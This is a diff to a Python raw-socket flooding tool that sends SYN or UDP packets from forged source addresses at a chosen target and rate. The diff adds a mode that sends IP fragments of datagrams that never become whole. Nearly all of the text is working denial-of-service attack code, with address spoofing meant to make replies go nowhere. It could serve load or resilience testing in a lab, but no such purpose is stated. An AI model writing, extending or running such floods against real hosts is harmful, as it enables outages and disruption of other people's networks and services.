@@ -1,19 +1,23 @@
 """A flood from forged addresses, through a raw socket.
 
-    python flood.py syn|udp ADDRESS PORT COUNT RATE CLIENTS
+    python flood.py syn|udp|fragments ADDRESS PORT COUNT RATE CLIENTS
 
 COUNT packets at RATE a second (0: as fast as it goes), the sources taken in turn from CLIENTS
 addresses of 10.128.0.0/9, each packet from another port than the address's one before.  What is
-sent back to those addresses must lead nowhere.  Prints the packets sent and the seconds it took.
+sent back to those addresses must lead nowhere.  Fragments are first, middle and last ones of
+datagrams that never become whole.  Prints the packets sent and the seconds it took.
 """
 
 import socket
 import struct
 import sys
 import time
+from collections.abc import Iterator
 
 FIRST = 10 << 24 | 128 << 16
 LOW, HIGH = 1024, 65535
+PART = 1400
+"""Bytes of a datagram in a fragment."""
 TOGETHER = 20
 """Packets between two looks at the clock."""
 
@@ -52,9 +56,20 @@ def packets(kind: str, to: bytes, port: int, count: int, clients: int) -> list[b
     return made
 
 
+def fragments(to: bytes, port: int, count: int, clients: int) -> Iterator[bytes]:
+    """Parts of datagrams of three, each of another datagram; made one by one, as they are large."""
+    places = (0x2000, 0x2000 | PART // 8, 2 * PART // 8)  # RFC 791: more to come; offset by eight
+    body = (struct.pack("!HHHH", LOW, port, 3 * PART, 0) + bytes(PART))[:PART]
+    for number in range(count):
+        place, ident = places[number % 3], number & 0xFFFF
+        head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + PART, ident, place, 64, socket.IPPROTO_UDP, 0)
+        yield head + (FIRST + 1 + number % clients).to_bytes(4) + to + body
+
+
 def main(kind: str, address: str, port: str, count: str, rate: str, clients: str) -> None:
     """Sends them."""
-    made = packets(kind, socket.inet_aton(address), int(port), int(count), int(clients))
+    what = socket.inet_aton(address), int(port), int(count), int(clients)
+    made = fragments(*what) if kind == "fragments" else packets(kind, *what)
     with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
         send, to, gap = sock.sendto, (address, 0), 1 / float(rate) if float(rate) else 0
         began = time.monotonic()
@@ -62,7 +77,7 @@ def main(kind: str, address: str, port: str, count: str, rate: str, clients: str
             send(packet, to)
             if gap and not number % TOGETHER:
                 time.sleep(max(0.0, began + number * gap - time.monotonic()))
-        print(f"{len(made)} {time.monotonic() - began:.2f}", flush=True)
+        print(f"{count} {time.monotonic() - began:.2f}", flush=True)
 
 
 if __name__ == "__main__":
